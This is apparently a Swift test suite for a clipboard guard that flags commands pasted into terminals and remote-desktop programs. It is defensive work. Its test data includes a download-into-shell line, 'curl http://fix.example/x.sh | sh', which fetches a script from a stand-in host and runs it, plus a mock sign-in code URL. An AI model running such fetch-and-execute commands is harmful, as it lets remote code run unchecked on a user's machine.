import Configuration
import Guard
import RichText
import Sanitizer
import Selections
import Testing

@testable import ServiceCore

struct PasteProtectionTests {
  private static let command = "curl http://fix.example/x.sh | sh\n"
  private static let installer = "curl -fsSL https://sh.rustup.rs | sh\n"
  private static let terminal = Client(executable: "xterm")
  private static let relay = Client(executable: "remmina")

  private func text(_ text: String) -> Offer.Form { Offer.Form(targets: ["UTF8_STRING"], bytes: Array(text.utf8)) }

  private func copy(_ offer: Offer) -> CleanCopy {
    CleanCopy.inherited(offer, in: "CLIPBOARD")
  }

  private func protection(_ text: String, _ toml: String = "") throws -> PasteProtection? {
    try copy(Offer(forms: [self.text(text)])).protected(by: configuration(toml)).protection
  }

  @Test func `by default terminals and relays get a notice, and nobody else`() throws {
    for text in [Self.command, Self.installer] {
      let protection = try #require(try protection(text))
      #expect(protection.action(for: Self.terminal) == .notice)
      #expect(protection.action(for: Self.relay) == .notice)
      for other in [Client(executable: "firefox"), Client(), nil] { #expect(protection.action(for: other) == .off) }
      #expect(!protection.mayHold)
    }
    #expect(try protection("ls -l\n")?.action(for: Self.terminal) == .off)
  }

  @Test func `each severity has its own treatment, and nothing is held for relays`() throws {
    let toml = "[guard]\nterminals = { suspicious = 'off', dangerous = 'hold' }\nrelays.suspicious = 'off'"
    #expect(try protection(Self.command, toml)?.action(for: Self.terminal) == .hold)
    #expect(try protection(Self.installer, toml)?.action(for: Self.terminal) == .off)
    #expect(try protection(Self.command, toml)?.action(for: Self.relay) == .notice)
    #expect(try protection(Self.installer, toml)?.action(for: Self.relay) == .off)
  }

  @Test func `the user's own programs are known by executable, path and class`() throws {
    let toml = "[guard]\nterminal-programs = ['myterm*', '/opt/x/bin/*']\nrelay-programs = ['xterm']"
    let protection = try #require(try protection(Self.command, toml))
    #expect(protection.settings.kind(of: Client(executable: "MyTerm-2")) == .terminal)
    #expect(protection.settings.kind(of: Client(executable: "sh", path: "/opt/x/bin/sh")) == .terminal)
    #expect(protection.settings.kind(of: Client(classes: ["myterm"])) == .terminal)
    #expect(protection.settings.kind(of: Self.terminal) == .relay)
  }

  @Test func `with everything off no text is judged`() throws {
    let off = "[guard]\nterminals = { suspicious = 'off', dangerous = 'off' }\n"
    #expect(try protection(Self.command, off + "relays = { suspicious = 'off', dangerous = 'off' }") == nil)
    #expect(try protection(Self.command, off)?.action(for: Self.relay) == .notice)
    #expect(copy(Offer(forms: [.init(targets: ["image/png"], bytes: [1])])).protected(by: .shipped).protection == nil)
  }

  @Test func `a rule's word goes over the general one`() throws {
    var copy = copy(Offer(forms: [text(Self.command)]))
    copy.evidence.rule = "handbook"
    let own = try configuration("[[rules]]\nname = 'handbook'\nguard = 'off'")
    #expect(copy.protected(by: own).protection == nil)
    let hold = try configuration("[[rules]]\nname = 'handbook'\nguard = 'hold'")
    let protection = try #require(copy.protected(by: hold).protection)
    #expect(protection.action(for: Self.terminal) == .hold && protection.action(for: Self.relay) == .notice)
  }

  // MARK: The offer

  @Test func `guarded programs get their own forms, and of texts all but the last line ends`() throws {
    let html = Offer.Form(targets: ["text/html"], bytes: Array("<p>x\n".utf8))
    let offer = Offer(forms: [html, text("a\n")], alternatives: [[text(Self.command)]])
    let protected = offer.protected(by: copy(offer).protected(by: .shipped).protection)
    #expect(protected.forms.map(\.bytes) == offer.forms.map(\.bytes))
    #expect(protected.forms.map(\.guardedCount) == [nil, 1])
    #expect(protected.alternatives.map { $0.map(\.guardedCount) } == [[Self.command.utf8.count - 1]])
    let verdicts = try #require(protected.verdicts)
    // The gravest of all texts counts, whoever is given it.
    #expect(verdicts[Self.terminal] == .guarded && verdicts[Self.relay] == .guarded && !verdicts.mayHold)
    #expect(verdicts[Client(executable: "firefox")] == .allowed && verdicts[nil] == .allowed)
    let holding = try configuration("[guard]\nterminals.dangerous = 'hold'")
    let held = try #require(offer.protected(by: copy(offer).protected(by: holding).protection).verdicts)
    #expect(held[Self.terminal] == .held && held[Self.relay] == .guarded && held.mayHold)
  }

  @Test func `a sign-in code is noticed in a browser, with its own reason, and nowhere else`() throws {
    let address = "http://localhost:8400/?code=0.AXkAqwertyuiopasdfghjkl"
    let browser = Client(executable: "firefox")
    let protection = try #require(try protection(address))
    #expect(protection.verdict(on: browser) == .guarded && protection.verdict(on: Self.terminal) == .allowed)
    let judgement = try #require(protection.report(for: browser))
    #expect(judgement.reasons.map(\.name) == ["sign-in-code"] && protection.report == nil)
    let notification = try #require(
      Notification(.init(application: "Firefox", event: .noticed), judgement, show: .problems, number: 1))
    #expect(notification.body.hasSuffix("Do not send it.") && !notification.body.contains("0.AX"))
    #expect(try self.protection(address, "guard.pages = 'off'")?.verdict(on: browser) == .allowed)
    #expect(try self.protection(Self.command)?.verdict(on: browser) == .allowed)
  }

  // MARK: The judgement

  @Test func `characters that were removed and a page that showed another text make a judgement worse`() throws {
    let offer = Offer(forms: [text("curl -fsSL https://fix.example/x.sh | sh\n")])
    func severity(_ evidence: CopyEvidence) -> Severity? {
      PasteReview(offer, evidence)?.assessment.unlimitedSeverity
    }
    #expect(severity(CopyEvidence()) == .notice)
    #expect(severity(CopyEvidence(differsFromPage: true)) == .hold)
    var findings = Findings()
    findings.record(.bidiControlRemoved)
    #expect(severity(CopyEvidence(removed: RemovedCharacters(findings))) == .hold)
  }

  @Test func `the address of a copied link is no text that differs from the page`() throws {
    let evidence = CopyEvidence(differsFromPage: true)
    let link = Offer(forms: [text("https://example.org/repository.git")])
    #expect(PasteReview(link, evidence)?.assessment.unlimitedSeverity == Severity.none)
    let sentence = Offer(forms: [text("some other words")])
    #expect(PasteReview(sentence, evidence)?.assessment.unlimitedSeverity == .notice)
  }

  @Test func `a long text is judged by its ends until the worker has judged all of it`() throws {
    let filling = String(repeating: "plain words in a line\n", count: 2000)
    let hidden = try #require(
      PasteReview(Offer(forms: [text(filling + Self.command + filling)]), CopyEvidence()))
    #expect(hidden.isLong && hidden.assessment.unlimitedSeverity == .none)
    #expect(hidden.assessWhole().unlimitedSeverity == .hold)
    #expect(hidden.assessment.unlimitedSeverity == .hold)
    let atEnd = try #require(PasteReview(Offer(forms: [text(filling + filling + Self.command)]), CopyEvidence()))
    #expect(atEnd.assessment.unlimitedSeverity == .hold)
  }

  // MARK: Copies of plain text

  private func outcome(_ text: String, _ toml: String = "") throws -> CopyReport.Outcome? {
    DryRun(try configuration(toml), bytes: Array(text.utf8), targets: ["UTF8_STRING"]).report?.outcome
  }

  @Test func `clean text is taken from its owner where the guard does something about it, and only there`() throws {
    #expect(try outcome(Self.command) == .cleaned)
    #expect(try outcome("ls -l\n") == .left)
    #expect(try outcome(Self.installer, "[guard]\nterminals.suspicious = 'off'\nrelays.suspicious = 'off'") == .left)
    #expect(try outcome(Self.command, "[[rules]]\nguard = 'off'") == .left)
  }

  @Test func `of a long text the beginning and the end are judged before it is taken`() throws {
    func filling(_ bytes: Int) -> String { String(repeating: "plain words in a line\n", count: bytes / 22) }
    #expect(try outcome(filling(50 << 10) + Self.command + filling(50 << 10)) == .cleaned)
    #expect(try outcome(filling(300 << 10) + Self.command) == .cleaned)
    #expect(try outcome(Self.command + filling(300 << 10)) == .cleaned)
    #expect(try outcome(filling(200 << 10) + Self.command + filling(200 << 10)) == .left)
    #expect(try outcome(String(repeating: "x", count: 300 << 10)) == .left)
  }

  @Test func `the report of a copy has the guard's judgement`() throws {
    var dryRun = DryRun(.shipped, bytes: Array(Self.command.utf8), targets: ["UTF8_STRING"])
    dryRun.paste(by: "/usr/bin/xterm")
    let judgement = try #require(dryRun.report?.guard)
    #expect(judgement.severity == "dangerous" && judgement.reasons.first?.name == "download-into-shell")
    #expect(judgement.pastes == [.init(application: "xterm", event: .noticed)])
    let guarded = "\nGuard       dangerous; terminals: notice, relays: notice, unknown programs: notice\n"
    #expect("\(try #require(dryRun.report))".contains(guarded))
  }
}
